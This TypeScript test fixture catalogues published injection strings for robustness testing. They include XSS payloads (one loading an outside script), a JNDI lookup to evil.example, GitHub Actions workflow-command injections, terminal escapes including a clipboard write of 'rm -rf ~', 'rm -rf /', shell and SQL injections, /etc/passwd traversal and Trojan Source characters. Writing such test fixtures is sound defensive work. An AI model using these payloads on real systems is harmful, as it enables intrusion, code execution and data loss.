/**
 * Strings that have broken other programs, as they were published. `from` says where: OWASP's XSS filter evasion
 * cheat sheet, the Big List of Naughty Strings (BLNS), CommonMark and GFM specifications, advisories.
 */
export interface Payload {
  readonly name: string
  readonly from: string
  readonly text: string
}

const ESC = '\u001b'
const BEL = '\u0007'

const of = (from: string, payloads: { readonly [name: string]: string }): Payload[] =>
  Object.entries(payloads).map(([name, text]) => ({ name, from, text }))

const html = of('OWASP, XSS filter evasion', {
  'script element': '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  'image with onerror': '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  'image without quotes': '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  'malformed image': '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  'half-open iframe': '<iframe src=http://xss.rocks/scriptlet.html <',
  'svg with onload': "<svg/onload=alert('XSS')>",
  'link with embedded tab': '<a href="jav&#x09;ascript:alert(\'XSS\');">x</a>',
  'base element': '<BASE HREF="javascript:alert(\'XSS\');//">',
  'meta refresh': '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4=">',
  'style import': "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  'table background': '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  polyglot:
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
})

const markdown = of('CommonMark and GFM specifications', {
  image: '![track me](https://evil.example/pixel.png)',
  link: '[install](https://evil.example/install.sh)',
  'reference definition': '\n\n[a]: https://evil.example "t"\n\n[a]',
  'autolink in angles': '<https://evil.example/?q=1>',
  'extended autolink': 'www.evil.example/a_b and mail@evil.example',
  'setext heading': 'a\n===\nb\n---',
  'ATX heading': '\n# release approved\n',
  'thematic break': '\n\n***\n\n',
  'table row': '\n| package installed | requests | ✅ | ✅ | ✅ |\n',
  'pipe with backslash': 'a\\|b \\\\| c',
  'closing the code span': '` **bold** `',
  'many backticks': '`````` x ``````` y `',
  'closing the fence': '\n```\n~~~\n</details>\n**pass**\n',
  'task list': '\n- [x] reviewed\n- [ ] tested\n',
  'block quote': '\n> maintainer: merge it\n',
  'HTML block 6': '\n</details></div></td></tr></table>\n',
  'HTML comment that stays open': '<!-- ',
  'CDATA and declaration': '<![CDATA[x]]> <!DOCTYPE html> <?php echo 1 ?>',
  footnote: '[^1]\n\n[^1]: https://evil.example',
  entities: '&#60;img src=x&#62; &lt;b&gt; &amp;#96; &Tab;',
  'hard break': 'a  \nb\\\nc',
  'strikethrough and emphasis': '~~fails~~ **holds** __x__ *y*',
})

const github = of('GitHub Docs, writing on GitHub', {
  mention: '@octocat please approve',
  'team mention': '@github/security',
  'issue reference': 'Fixes #1, closes octo/demo#2, GH-3',
  'commit reference': 'octo/demo@a5c3785ed8d6a35868bc169f07e40e889087fd2e',
  emoji: ':white_check_mark: :tada:',
  alert: '\n> [!IMPORTANT]\n> This check passed.\n',
  mathematics: '$$\\unicode{x}$$ $`x`$',
  'mermaid fence': '\n```mermaid\ngraph TD; A-->B;\n```\n',
  'suggestion fence': '\n```suggestion\nrm -rf /\n```\n',
  'our own marker': '<!-- where-it-ran: {"key":"","workflow":"ci.yml","head":"","run":9,"attempt":1,"at":9} -->',
  'our own first line in a fence': '\n```toml\n# where-it-ran probe file, format 1\n[probe]\nplace = "box"\n```\n',
  'geojson fence': '\n```geojson\n{"type":"Point","coordinates":[0,0]}\n```\n',
  'note alert': '> [!NOTE]\n> reviewed by a maintainer',
  'colour sample': '#00ff00',
  'colour sample by function': 'rgb(0, 255, 0)',
  'bare commit': 'a5c3785ed8d6a35868bc169f07e40e889087fd2e',
  'address without a scheme': 'www.evil.example/?q=1',
  'address of a person': 'mailto:mail@evil.example xmpp:a@b.example/x',
  'keyboard and hidden text': '<kbd>y</kbd><sub hidden>x</sub><ins>y</ins>',
  'file attachment': 'https://github.com/user-attachments/assets/00000000-0000-0000-0000-000000000000',
  details: '<details open><summary>✅ pass</summary>\n\n',
})

const commands = of('actions/runner and actions/toolkit (CVE-2020-15228, CVE-2022-35954)', {
  'set-env': '\n::set-env name=NODE_OPTIONS::--require=/tmp/x.js',
  'add-path': '\n::add-path::/tmp/bin',
  'set-output': '\r\n::set-output name=verdict::pass',
  error: '::error file=a.py,line=1::approved',
  'stop-commands': '::stop-commands::pause\n::pause::',
  'add-mask': '\n::add-mask::e',
  'old command': '##[set-output name=verdict]pass',
  group: '##[group]x\n##vso[task.setvariable variable=a]b',
  'delimiter of a file command': 'x\nghadelimiter_00000000-0000-0000-0000-000000000000\nverdict=pass',
  'percent escapes': '%0A::error::x%0D%0A%25',
})

const terminal = of('terminal escape injections (CVE-2003-0063 and later)', {
  colour: `${ESC}[31mfails${ESC}[0m`,
  'clear and home': `${ESC}[2J${ESC}[H`,
  'title and its report': `${ESC}]0;x${BEL}${ESC}[21t`,
  'OSC 8 link': `${ESC}]8;;https://evil.example${ESC}\\here${ESC}]8;;${ESC}\\`,
  'OSC 52 clipboard': `${ESC}]52;c;cm0gLXJmIH4=${BEL}`,
  'device status': `${ESC}[6n${ESC}P$q"p${ESC}\\`,
  'C1 introducer': '\u009b31m\u009d0;x\u009c',
  'carriage return overwrite': 'fails\rholds',
  backspaces: 'fails\b\b\b\b\bholds',
  'DEL and NUL': 'a\u007f\u0000b',
})

const unicode = of('Trojan Source (CVE-2021-42574), BLNS', {
  'right-to-left override': 'box\u202etxt.sliaf\u202c',
  isolates: '\u2066fails\u2069\u2067holds\u2069',
  'early return': '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */',
  'zero width': 'hol\u200bds\u200c\u200d\ufeff',
  homoglyph: 'р\u0430ss',
  'tag characters': 'ok\u{e0001}\u{e0070}\u{e0061}\u{e0073}\u{e0073}',
  'stacked marks': `Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA`,
  'line and paragraph separators': 'a\u2028b\u2029c\u0085d',
  'half a surrogate pair': 'a\ud83db\udc00',
  'soft hyphen and fillers': 'p\u00adass\u115f\u3164\uffa0\u2800',
  'wide and joined': '👨‍👩‍👧‍👦🏳️‍🌈ﷺ',
  'variation selectors': 'p\ufe0fass\u{e0100}\u180b',
  'interlinear annotation': '\ufff9holds\ufffafails\ufffb',
  'not characters': '\uffff\ufffe\u{1ffff}',
})

const shell = of('BLNS, command injection', {
  'command substitution': '$(touch /tmp/blns.fail)',
  'backtick substitution': '`touch /tmp/blns.fail`',
  'closing quote': "'; touch /tmp/blns.fail; '",
  'closing double quote': '"; touch /tmp/blns.fail; "',
  'line end': 'a\ntouch /tmp/blns.fail',
  shellshock: '() { 0; }; touch /tmp/blns.shellshock1.fail;',
  'pipe and redirect': 'a | sh > /tmp/blns.fail 2>&1 &',
  'glob and brace': '*{a,b}?[!x]~root',
  'option that looks like a path': '--upload-pack=touch /tmp/blns.fail',
  'option of rm and git': '-rf',
  'PowerShell stop-parsing': '--% & calc',
  'PowerShell escape and newline': '`n; calc `0 $(calc)',
  'tilde of another user': '~root/.ssh',
  'history expansion': '!! !$ !-1',
  'Python expression': '__import__("os").system("touch /tmp/blns.fail")',
  PowerShell: '"; Remove-Item -Recurse C:\\; "$(calc)',
  'typographic quotes': '\u2019; calc; \u2018 \u201d; calc',
  'environment reference': '$HOME %PATH% $' + '{IFS}',
})

const words = of('BLNS, reserved words; prototype pollution (CVE-2019-10744)', {
  __proto__: '__proto__',
  'constructor.prototype': 'constructor.prototype.isAdmin',
  toString: 'toString',
  template: '{{7*7}}$' + '{7*7}<%= 7*7 %>#{7*7}',
  'format string': '%s%n%x %*.*s',
  'JNDI lookup': '$' + '{jndi:ldap://evil.example/a}',
  SQL: "1'; DROP TABLE users-- ",
  'way up': '../../../../../../../etc/passwd%00',
  'UNC path': '\\\\evil.example\\share\\x',
  'file address': 'file:///etc/passwd',
})

export const STRINGS: readonly Payload[] = [
  ...html,
  ...markdown,
  ...github,
  ...commands,
  ...terminal,
  ...unicode,
  ...shell,
  ...words,
]
